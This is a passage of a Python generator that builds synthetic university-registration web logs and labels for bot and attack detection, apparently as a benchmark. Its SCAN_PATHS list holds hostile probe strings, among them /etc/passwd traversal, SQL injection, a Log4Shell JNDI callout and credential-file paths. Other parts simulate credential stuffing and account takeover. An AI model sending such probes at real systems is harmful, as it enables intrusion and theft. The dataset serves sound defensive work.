        t,
        "GET",
        "/" + REG + "/ssb/classSearch/classSearch",
        200,
        28000,
        HOST + "/" + REG + "/ssb/term/termSelection?mode=search",
        lat(70),
        REG,
    )
    t = b.assets(t, REG, HOST + "/" + REG + "/ssb/classSearch/classSearch")
    t += R.uniform(4, 20)
    b.e(
        t,
        "GET",
        "/" + REG + search_url(subj, num),
        200,
        R.randint(3000, 20000),
        HOST + "/" + REG + "/ssb/classSearch/classSearch",
        lat(200),
        REG,
    )
    if deep:
        for _ in range(R.randint(0, 3)):
            t += R.uniform(3, 20)
            b.e(
                t,
                "POST",
                "/" + REG + "/ssb/searchResults/getClassDetails",
                200,
                R.randint(1500, 4000),
                HOST + "/" + REG + "/ssb/classSearch/classSearch",
                lat(80),
                REG,
            )
    return t


def public_day(day):
    """Prospective students, parents, people without login browsing classes and the catalog."""
    n = int((90 if day in (3, 4) else 220) * A.scale * 2)
    for _ in range(n):
        t = START + day * DAY + R.uniform(7 * 3600, 24 * 3600)
        dev = Device(R.choice(["desktop", "phone"]), rnd_ip(HOME_PREFIXES))
        ip = dev.home if dev.kind == "desktop" else dev.ip("mobile")
        if A.inapp_baseline and dev.kind == "phone" and R.random() < 0.15:
            dev.ua = tiktok_inapp() if R.random() < 0.5 else instagram_inapp()  # links shared in apps every day
        subj = R.choice(SUBJECTS)
        if R.random() < 0.5:
            ref = R.choice(
                ["https://www.google.com/", "https://www.univ.edu/academics/", "https://www.bing.com/", None]
            )
            emit(t, ip, "GET", "/catalog/courses/%s/" % subj.lower(), 200, 25000, ref, dev.ua, lat(20))
            for a in ["/catalog/css/catalog.css", "/catalog/js/catalog.js", "/catalog/img/seal.png"]:
                t += R.uniform(0.05, 0.3)
                emit(t, ip, "GET", a, 200, 20000, HOST + "/catalog/courses/%s/" % subj.lower(), dev.ua, lat(5))
            for _ in range(R.randint(0, 4)):
                t += R.uniform(10, 90)
                emit(
                    t,
                    ip,
                    "GET",
                    "/catalog/courses/%s/%d/" % (subj.lower(), R.choice(COURSES[subj])),
                    200,
                    9000,
                    HOST + "/catalog/courses/%s/" % subj.lower(),
                    dev.ua,
                    lat(20),
                )
        else:
            public_browse(
                t,
                ip,
                dev.ua,
                "https://www.univ.edu/registrar/",
                subj,
                R.choice([None, R.choice(COURSES[subj])]),
                dev=dev,
            )


def viral_day(day):
    """Day 9: a TikTok about PSYC 1010 'the easiest A on campus' goes viral at 15:00."""
    subj, num = "PSYC", COURSES["PSYC"][0]
    n = int(2600 * A.scale)
    for i in range(n):
        t = START + day * DAY + 15 * 3600 + R.expovariate(1 / 3000.0) + R.uniform(0, 600)
        ua = tiktok_inapp() if R.random() < 0.7 else instagram_inapp()
        if R.random() < 0.15:
            ua = phone_ua()
        ip = R.choice(
            [
                R.choice(TMO_CGNAT),
                R.choice(VZW_CGNAT),
                R.choice(ATT_CGNAT),
                v6("2607:fb90:%x:%x" % (R.getrandbits(16), R.getrandbits(16))),
                rnd_ip(HOME_PREFIXES),
            ]
        )
        ref = R.choice(["https://www.tiktok.com/", None, None, "https://l.instagram.com/"])
        if R.random() < 0.5:
            emit(
                t,
                ip,
                "GET",
                "/catalog/courses/psyc/%d/?utm_source=tiktok&utm_medium=social" % num,
                200,
                9000,
                ref,
                ua,
                lat(20),
            )
            for a in ["/catalog/css/catalog.css", "/catalog/js/catalog.js", "/catalog/img/seal.png"]:
                t += R.uniform(0.05, 0.4)
                emit(t, ip, "GET", a, 200, 20000, HOST + "/catalog/courses/psyc/%d/" % num, ua, lat(5))
            if R.random() < 0.3:
                public_browse(
                    t + R.uniform(10, 40), ip, ua, HOST + "/catalog/courses/psyc/%d/" % num, subj, num, deep=False
                )
        else:
            public_browse(t, ip, ua, ref, subj, num, deep=R.random() < 0.3)
        # some are students: log in to add it
        if R.random() < 0.12:
            st = R.choice([s for s in STUDENTS[:400]] if False else STUDENTS)
            dev = st.devices[1]
            b = Browser(dev, ip, st.netid, None, ua=ua, fail_rate=st.fail_rate * 2)
            registration_visit(b, st, t + R.uniform(30, 200))


CRAWLERS = [
    (
        "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.69 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        ["66.249.66.%d" % i for i in range(1, 200)],
        900,
    ),
    (
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        ["157.55.39.%d" % i for i in range(1, 250)] + ["40.77.167.%d" % i for i in range(1, 100)],
        600,
    ),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
        ["20.171.207.%d" % i for i in range(1, 200)],
        250,
    ),
    (
        "Mozilla/5.0 (compatible; DuckDuckBot-Https/1.1; https://duckduckgo.com/duckduckbot)",
        ["20.191.45.212", "40.88.21.235"],
        60,
    ),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
        ["17.241.219.%d" % i for i in range(1, 80)],
        120,
    ),
]


def machines_day(day):
    base = START + day * DAY
    for ua, ips, n in CRAWLERS:
        for _ in range(int(n * R.uniform(0.7, 1.2))):
            t = base + R.uniform(0, DAY)
            subj = R.choice(SUBJECTS)
            r = R.random()
            if r < 0.5:
                path = "/catalog/courses/%s/%d/" % (subj.lower(), R.choice(COURSES[subj]))
            elif r < 0.7:
                path = "/catalog/courses/%s/" % subj.lower()
            elif r < 0.8:
                path = "/robots.txt"
            elif r < 0.9:
                path = "/StudentRegistrationSsb/ssb/term/termSelection?mode=search"
            else:
                path = "/catalog/sitemap.xml"
            emit(
                t,
                R.choice(ips),
                "GET",
                path,
                200 if R.random() < 0.97 else 404,
                R.randint(2000, 30000),
                None,
                ua,
                lat(25),
            )
    # uptime monitor every 5 minutes from 3 regions, following the redirect to CAS
    for k, ip in enumerate(["216.144.250.150", "69.162.124.235", "63.143.42.242"]):
        t = base + k * 100 + R.uniform(0, 5)
        while t < base + DAY:
            emit(
                t,
                ip,
                "HEAD",
                "/StudentRegistrationSsb/ssb/registration",
                302,
                0,
                HOST + "/StudentRegistrationSsb/ssb/registration",
                "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
                lat(6),
            )
            emit(
                t + 0.2,
                ip,
                "HEAD",
                "/cas/login?service=https%3A%2F%2Fselfservice.univ.edu%2FStudentRegistrationSsb%2Fssb%2Fregistration",
                200,
                0,
                None,
                "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
                lat(20),
            )
            t += 300 + R.uniform(-2, 2)
    # F5 health monitor comes from the LB itself: not in X-Forwarded-For; skip (F5 monitors hit the pool directly)
    # feed readers and calendar subscriptions
    feeds = [
        (
            "Feedly/1.0 (+https://feedly.com/poller.html; 312 subscribers; )",
            ["52.6.9.%d" % i for i in range(10, 20)],
            3600,
            "/registrar/news/feed.xml",
        ),
        ("Mozilla/5.0 (compatible; inoreader.com; 24 subscribers)", ["5.9.58.131"], 1800, "/registrar/news/feed.xml"),
        (
            "Google-Calendar-Importer",
            ["66.249.84.%d" % i for i in range(1, 60)],
            900,
            "/registrar/calendar/academic-2026-27.ics",
        ),
        (
            "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17928; Pro)",
            None,
            None,
            "/registrar/calendar/academic-2026-27.ics",
        ),
    ]
    for ua, ips, period, path in feeds:
        if ips is None:
            for _ in range(120):  # individual Outlook clients subscribed
                st = R.choice(STUDENTS[:600])
                t = base + R.uniform(7 * 3600, 23 * 3600)
                emit(t, st.devices[0].home, "GET", path, R.choice([200, 304, 304]), 31000, None, ua, lat(10))
            continue
        t = base + R.uniform(0, period)
        while t < base + DAY:
            emit(t, R.choice(ips), "GET", path, R.choice([200, 304, 304, 304]), 12000, None, ua, lat(8))
            t += period * R.uniform(0.8, 1.2)
    # the university's own integration: degree audit (DegreeWorks) polls registrations, service account
    t = base + 6 * 3600
    while t < base + 22 * 3600:
        bid = "9%08d" % R.randint(0, 99999999)
        emit(
            t,
            "129.10.5.20",
            "GET",
            "/StudentApi/api/v1/students/%s/registrations?term=%s" % (bid, TERM),
            200,
            R.randint(400, 4000),
            None,
            "Apache-HttpClient/4.5.13 (Java/11.0.20)",
            lat(40),
            "-",
            "svc_degreeworks",
        )
        t += R.expovariate(1 / (8.0 if WINDOWS.get(day) else 25.0))
    # nightly Ethos integration (batch) from the data warehouse
    t = base + 2 * 3600 + 600
    for _ in range(R.randint(1500, 2200)):
        emit(
            t,
            "129.10.5.31",
            "GET",
            "/StudentApi/api/v1/sections?term=%s&offset=%d&limit=100" % (TERM, R.randint(0, 300) * 100),
            200,
            R.randint(20000, 90000),
            None,
            "python-requests/2.31.0",
            lat(300),
            "-",
            "svc_ethos_etl",
        )
        t += R.uniform(0.6, 1.5)
    # Siteimprove accessibility crawl, weekly
    if day in (2, 9):
        t = base + 1 * 3600
        for _ in range(1400):
            subj = R.choice(SUBJECTS)
            emit(
                t,
                "185.229.145.%d" % R.randint(10, 20),
                "GET",
                "/catalog/courses/%s/%d/" % (subj.lower(), R.choice(COURSES[subj])),
                200,
                9000,
                None,
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 SiteimproveBot",
                lat(20),
            )
            t += R.uniform(1, 3)


# ---------------------------------------------------------------- bots (test days)
def residential_proxy_ip():
    return rnd_ip(
        HOME_PREFIXES
        + ["76.%d" % i for i in range(0, 60)]
        + ["99.%d" % i for i in range(0, 60)]
        + ["47.%d" % i for i in range(128, 200)]
    )


def seat_sniper_script(st, day):
    label = "seat_sniper_script"
    t = START + day * DAY + 6 * 3600 + 40 * 60 + R.uniform(0, 600)
    ua = R.choice(
        [
            "python-requests/2.31.0",
            "python-requests/2.32.3",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
        ]
    )
    dev = st.devices[0]
    b = Browser(None, dev.home, st.netid, label, loads_assets=False, ua=ua, fail_rate=0)
    t = b.ensure(t, REG, "/ssb/registration")
    b.e(t, "POST", "/" + REG + "/ssb/term/search?mode=registration", 200, 120, None, lat(60), REG)
    u = usid()
    subj = R.choice(st.subjects)
    num = R.choice(COURSES[subj])
    end = START + day * DAY + 8.5 * 3600
    got = False
    while t < end:
        t += R.uniform(3, 7)
        b.e(t, "GET", "/" + REG + search_url(subj, num, 0, 10, u), 200, R.randint(3000, 9000), None, lat(250), REG)
        if t > START + day * DAY + 7 * 3600 and not got and R.random() < 0.02:
            for crn in CRNS[(subj, num)][:2]:
                t += 0.3
                b.e(
                    t,
                    "GET",
                    "/"
                    + REG
                    + "/ssb/classRegistration/addRegistrationItem?term=%s&courseReferenceNumber=%d&olr=false"
                    % (TERM, crn),
                    200,
                    1800,
                    None,
                    lat(90),
                    REG,
                )
            t += 0.4
            b.e(
                t, "POST", "/" + REG + "/ssb/classRegistration/submitRegistration/batch", 200, 3000, None, lat(900), REG
            )
            got = R.random() < 0.5
            if got:
                subj = R.choice(st.subjects)
                num = R.choice(COURSES[subj])
                got = False
    return b.sids


def seat_sniper_browser(st, day):
    label = "seat_sniper_browser"
    t = START + day * DAY + 6 * 3600 + 50 * 60 + R.uniform(0, 300)
    dev = Device("desktop", st.devices[0].home)
    dev.ua = st.devices[0].ua if st.devices[0].ua.find("Chrome") > 0 else chrome_win(131)
    b = Browser(dev, dev.home, st.netid, label, fail_rate=0)
    t = registration_visit(b, st, t, window=False)
    u = usid()
    subj = R.choice(st.subjects)
    num = R.choice(COURSES[subj])
    end = START + day * DAY + (8 + R.uniform(0, 2)) * 3600
    while t is not None and t < end:
        t += R.uniform(9, 20)
        b.e(
            t,
            "GET",
            "/" + REG + "/ssb/classRegistration/classRegistration",
            200,
            31000,
            HOST + "/" + REG + "/ssb/classRegistration/classRegistration",
            lat(70),
            REG,
        )
        t = b.assets(t, REG, HOST + "/" + REG + "/ssb/classRegistration/classRegistration")
        t += R.uniform(1.5, 3)
        b.e(
            t,
            "GET",
            "/" + REG + search_url(subj, num, 0, 10, u),
            200,
            R.randint(3000, 9000),
            HOST + "/" + REG + "/ssb/classRegistration/classRegistration",
            lat(250),
            REG,
        )
        t += R.uniform(0.5, 1.0)
        b.e(
            t,
            "POST",
            "/" + REG + "/ssb/searchResults/getClassDetails",
            200,
            2500,
            HOST + "/" + REG + "/ssb/classRegistration/classRegistration",
            lat(80),
            REG,
        )
        if t > START + day * DAY + 7 * 3600 and R.random() < 0.03:
            t += 1
            b.e(
                t,
                "GET",
                "/"
                + REG
                + "/ssb/classRegistration/addRegistrationItem?term=%s&courseReferenceNumber=%d&olr=false"
                % (TERM, CRNS[(subj, num)][0]),
                200,
                1800,
                HOST + "/" + REG + "/ssb/classRegistration/classRegistration",
                lat(90),
                REG,
            )
            t += 1
            b.e(
                t,
                "POST",
                "/" + REG + "/ssb/classRegistration/submitRegistration/batch",
                200,
                3000,
                HOST + "/" + REG + "/ssb/classRegistration/classRegistration",
                lat(900),
                REG,
            )
    return b.sids


def credential_stuffing(day):
    label = "credential_stuffing"
    sids = set()
    t = START + day * DAY + 2 * 3600
    for i in range(int(1800 * A.scale)):
        t += R.expovariate(1 / 5.0)
        ip = residential_proxy_ip()
        ua = desktop_ua()
        b = Browser(None, ip, None, label, loads_assets=False, ua=ua)
        service = "https%3A%2F%2Fselfservice.univ.edu%2FStudentRegistrationSsb%2Fssb%2Fregistration"
        b.e(t, "GET", "/cas/login?service=" + service, 200, 7400, None, lat(30), "cas")
        b.cookies["cas"] = new_sid("cas1")
        sids.add(b.cookies["cas"])
        ok = R.random() < 0.012
        t2 = t + R.uniform(0.8, 2.5)
        b.e(
            t2,
            "POST",
            "/cas/login?service=" + service,
            302 if ok else 401,
            0 if ok else 7900,
            HOST + "/cas/login?service=" + service,
            lat(250),
            "cas",
        )
    return sids


def password_spray(day):
    label = "password_spray"
    ip = "45.134.%d.%d" % (R.randint(0, 255), R.randint(1, 254))
    ua = chrome_win(124)
    t = START + day * DAY + 9 * 3600
    sids = set()
    while t < START + day * DAY + 17 * 3600:
        b = Browser(None, ip, None, label, loads_assets=False, ua=ua)
        b.e(t, "GET", "/cas/login", 200, 7400, None, lat(30), "cas")
        b.cookies["cas"] = new_sid("cas1")
        sids.add(b.cookies["cas"])
        b.e(
            t + R.uniform(1, 3),
            "POST",
            "/cas/login",
            401 if R.random() > 0.004 else 302,
            7900,
            HOST + "/cas/login",
            lat(250),
            "cas",
        )
        t += R.uniform(30, 100)
    return sids


def account_takeover(st, day):
    """Phished account: refund fraud, changes e-mail and direct-deposit bank account."""
    label = "account_takeover"
    t = START + day * DAY + R.uniform(1, 23) * 3600
    ip = R.choice(
        [
            residential_proxy_ip(),
            "102.89.%d.%d" % (R.randint(0, 255), R.randint(1, 254)),
            "197.210.%d.%d" % (R.randint(0, 255), R.randint(1, 254)),
            "185.107.56.%d" % R.randint(1, 254),
        ]
    )
    dev = Device("desktop", ip)
    dev.ua = R.choice([chrome_win(125), firefox(), chrome_mac(127)])
    b = Browser(dev, ip, st.netid, label, fail_rate=0.2)
    t = b.page(
        t,
        "BannerGeneralSsb",
        "/ssb/personalInformation",
        None,
        21000,
        [("GET", "/ssb/personalInformation/getEmails", 600), ("GET", "/ssb/personalInformation/getAddresses", 900)],
    )
    if t is None:
        return b.sids
    t += R.uniform(20, 60)
    b.e(
        t,
        "POST",
        "/BannerGeneralSsb/ssb/personalInformation/updateEmail",
        200,
        300,
        HOST + "/BannerGeneralSsb/ssb/personalInformation",
        lat(300),
        "BannerGeneralSsb",
    )
    t += R.uniform(20, 60)
    t = b.page(
        t,
        "BannerGeneralSsb",
        "/ssb/directDeposit",
        HOST + "/BannerGeneralSsb/ssb/personalInformation",
        17000,
        [("GET", "/ssb/directDeposit/getAccounts", 700)],
    )
    t += R.uniform(30, 120)
    b.e(
        t,
        "POST",
        "/BannerGeneralSsb/ssb/directDeposit/createAccount",
        200,
        500,
        HOST + "/BannerGeneralSsb/ssb/directDeposit",
        lat(400),
        "BannerGeneralSsb",
    )
    t += R.uniform(5, 20)
    b.e(
        t,
        "POST",
        "/BannerGeneralSsb/ssb/directDeposit/updateAccount",
        200,
        500,
        HOST + "/BannerGeneralSsb/ssb/directDeposit",
        lat(400),
        "BannerGeneralSsb",
    )
    t += R.uniform(10, 40)
    t = b.page(
        t,
        "StudentAccount",
        "/ssb/accountSummary",
        HOST + "/BannerGeneralSsb/ssb/directDeposit",
        19000,
        [("GET", "/ssb/accountSummary/getSummary?termCode=" + TERM, 1900)],
    )
    if t is not None:
        b.e(
            t + R.uniform(5, 30),
            "GET",
            "/cas/logout",
            200,
            3000,
            HOST + "/StudentAccount/ssb/accountSummary",
            lat(30),
            "cas",
        )
    return b.sids


def slow_scraper(day):
    label = "schedule_scraper_slow"
    ip = "159.203.%d.%d" % (R.randint(0, 255), R.randint(1, 254))
    ua = chrome_mac(131)
    t = START + day * DAY + 9 * 3600 + R.uniform(0, 600)
    sids = set()
    b = None
    n = 0
    while t < START + day * DAY + 21 * 3600:
        if b is None or n > 250:
            b = Browser(None, ip, None, label, loads_assets=False, ua=ua)
            b.e(t, "GET", "/" + REG + "/ssb/term/termSelection?mode=search", 200, 15000, None, lat(60), REG)
            b.cookies[REG] = new_sid()
            sids.add(b.cookies[REG])
            t += R.uniform(3, 8)
            b.e(
                t,
                "POST",
                "/" + REG + "/ssb/term/search?mode=search",
                200,
                120,
                HOST + "/" + REG + "/ssb/term/termSelection?mode=search",
                lat(60),
                REG,
            )
            u = usid()
            n = 0
        subj = R.choice(SUBJECTS)
        for off in range(0, R.randint(1, 4) * 50, 50):
            t += R.uniform(20, 45)
            b.e(
                t,
                "GET",
                "/" + REG + search_url(subj, None, off, 50, u),
                200,
                R.randint(30000, 90000),
                HOST + "/" + REG + "/ssb/classSearch/classSearch",
                lat(400),
                REG,
            )
            n += 1
        for _ in range(R.randint(1, 3)):
            t += R.uniform(20, 45)
            b.e(
                t,
                "POST",
                "/" + REG + "/ssb/searchResults/getClassDetails",
                200,
                2500,
                HOST + "/" + REG + "/ssb/classSearch/classSearch",
                lat(80),
                REG,
            )
            n += 1
    return sids


def fast_headless(day):
    label = "fast_headless_scraper"
    ip = "3.%d.%d.%d" % (R.randint(80, 95), R.randint(0, 255), R.randint(1, 254))
    ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.6778.85 Safari/537.36"
    t = START + day * DAY + 14 * 3600 + R.uniform(0, 600)
    b = Browser(None, ip, None, label, loads_assets=False, ua=ua)
    b.e(t, "GET", "/" + REG + "/ssb/term/termSelection?mode=search", 200, 15000, None, lat(60), REG)
    b.cookies[REG] = new_sid()
    b.e(
        t + 0.5,
        "POST",
        "/" + REG + "/ssb/term/search?mode=search",
        200,
        120,
        HOST + "/" + REG + "/ssb/term/termSelection?mode=search",
        lat(60),
        REG,
    )
    u = usid()
    for subj in SUBJECTS:
        for off in range(0, 400, 10):
            t += R.uniform(0.1, 0.4)
            b.e(
                t,
                "GET",
                "/" + REG + search_url(subj, None, off, 10, u),
                200,
                R.randint(3000, 9000),
                HOST + "/" + REG + "/ssb/classSearch/classSearch",
                lat(200),
                REG,
            )
            t += R.uniform(0.1, 0.3)
            b.e(
                t,
                "POST",
                "/" + REG + "/ssb/searchResults/getClassDetails",
                200,
                2500,
                HOST + "/" + REG + "/ssb/classSearch/classSearch",
                lat(60),
                REG,
            )
    # catalog pages without cookies
    for _ in range(600):
        subj = R.choice(SUBJECTS)
        t += R.uniform(0.1, 0.3)
        emit(
            t,
            ip,
            "GET",
            "/catalog/courses/%s/%d/" % (subj.lower(), R.choice(COURSES[subj])),
            200,
            9000,
            None,
            ua,
            lat(20),
            "-",
            "-",
            label,
        )
    return {b.cookies[REG]}


SCAN_PATHS = [
    "/.env",
    "/.git/config",
    "/manager/html",
    "/host-manager/html",
    "/actuator/env",
    "/actuator/heapdump",
    "/server-status",
    "/wp-login.php",
    "/phpmyadmin/",
    "/struts2-showcase/",
    "/cas/status/dashboard",
    "/cas/actuator/env",
    "/StudentRegistrationSsb/..;/manager/html",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/solr/admin/info/system",
    "/console/login/LoginForm.jsp",
    "/jmx-console/",
    "/StudentRegistrationSsb/ssb/searchResults/searchResults?txt_subject=CS'%20OR%201=1--",
    "/BannerAdmin/",
    "/web.config",
    "/backup.zip",
    "/api/v1/users",
    "/config.json",
    "/.DS_Store",
    "/index.php?s=/Index/\\think\\app/invokefunction",
    "/?x=${jndi:ldap://a.oast.fun/a}",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/owa/auth/logon.aspx",
    "/remote/login",
    "/global-protect/login.esp",
    "/xmlrpc.php",
    "/.aws/credentials",
    "/telescope/requests",
    "/_profiler/phpinfo",
    "/druid/index.html",
    "/nacos/v1/auth/users",
]


def vuln_scanner(day):
    label = "vuln_scanner"
    ip = "167.94.%d.%d" % (R.randint(138, 146), R.randint(1, 254))
    t = START + day * DAY + 3 * 3600 + 600
    uas = [chrome_win(R.randint(70, 110)) for _ in range(20)] + [
        "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"
    ]
    for i in range(1400):
        p = R.choice(SCAN_PATHS)
        if R.random() < 0.5:
            p = "/" + R.choice(["admin", "backup", "old", "test", "dev", "api", "StudentRegistrationSsb", "cas"]) + p
        m = R.choice(["GET"] * 8 + ["POST", "PUT", "OPTIONS"])
        emit(t, ip, m, p, R.choice([404] * 8 + [403, 400, 302, 405]), 300, None, R.choice(uas), lat(8), "-", "-", label)
        t += R.uniform(0.2, 1.2)
    return set()


# ---------------------------------------------------------------- build
def main():
    for day in range(TRAIN_DAYS + TEST_DAYS):
        for st in STUDENTS:
            student_day(st, day)
        advisors_day(day)
        library_day(day)
        public_day(day)
        machines_day(day)
    viral_day(9)
    bot_sids = {}
    juniors = [s for s in STUDENTS if s.standing == "junior"]
    sophs = [s for s in STUDENTS if s.standing == "soph"]
    for s in R.sample(juniors, 5):
        for x in seat_sniper_script(s, 8):
            bot_sids[x] = "seat_sniper_script"
    for s in R.sample(sophs, 4):
        for x in seat_sniper_script(s, 9):
            bot_sids[x] = "seat_sniper_script"
    for s in R.sample(juniors, 4):
        for x in seat_sniper_browser(s, 8):
            bot_sids[x] = "seat_sniper_browser"
    for s in R.sample(sophs, 4):
        for x in seat_sniper_browser(s, 9):
            bot_sids[x] = "seat_sniper_browser"
    for x in credential_stuffing(7):
        bot_sids[x] = "credential_stuffing"
    for x in password_spray(9):
        bot_sids[x] = "password_spray"
    ato_users = []
    for day in (7, 7, 8, 8, 9, 9, 9, 8):
        s = R.choice(STUDENTS)
        ato_users.append(s.netid)
        for x in account_takeover(s, day):
            bot_sids[x] = "account_takeover"
    for day in (7, 8, 9):
        for x in slow_scraper(day):
            bot_sids[x] = "schedule_scraper_slow"
    for x in fast_headless(8):
        bot_sids[x] = "fast_headless_scraper"
    vuln_scanner(9)

    split = START + TRAIN_DAYS * DAY
    EVENTS.sort(key=lambda e: (e[0], e[1]))
    train = [e for e in EVENTS if e[0] < split]
    test = [e for e in EVENTS if e[0] >= split]
    assert not any(e[3] for e in train)
    with open(os.path.join(A.out, "train.log"), "w") as f:
        for e in train:
            f.write(e[2] + "\n")
    labels = {}
    line_labels = []
    with open(os.path.join(A.out, "test.log"), "w") as f:
        for n, e in enumerate(test, 1):
            f.write(e[2] + "\n")
            if e[3]:
                if e[4] and e[4] != "-":
                    labels[e[4]] = e[3]
                else:
                    line_labels.append(("test.log:%d" % n, e[3]))
    normal_sids = set(e[4] for e in test if not e[3] and e[4] != "-")
    clash = normal_sids & set(labels)
    assert not clash, clash
    with open(os.path.join(A.out, "labels.csv"), "w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["key", "label"])
        for k, v in sorted(labels.items()):
            w.writerow([k, v])
        for k, v in line_labels:
            w.writerow([k, v])
    # user-level labels: the ATO victims' accounts, the snipers' accounts, and the sessions / lines of the rest
    sniper_users = {}
    for e in test:
        if e[3] in ("seat_sniper_script", "seat_sniper_browser"):
            u = e[2].split(" ")[2]
            if u != "-":
                sniper_users[u] = e[3]
    with open(os.path.join(A.out, "labels-user.csv"), "w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["key", "label"])
        for u in sorted(set(ato_users)):
            w.writerow([u, "account_takeover"])
        for u, l in sorted(sniper_users.items()):
            w.writerow([u, l])
        for k, v in sorted(labels.items()):
            if v not in ("account_takeover", "seat_sniper_script", "seat_sniper_browser"):
                w.writerow([k, v])
        for k, v in line_labels:
            w.writerow([k, v])
    from collections import Counter

    print("train lines", len(train), "test lines", len(test))
    print("bot lines by label", Counter(e[3] for e in test if e[3]))
    print("bot sessions by label", Counter(labels.values()), "line labels", Counter(v for _, v in line_labels))
    print("ato users", ato_users)


main()
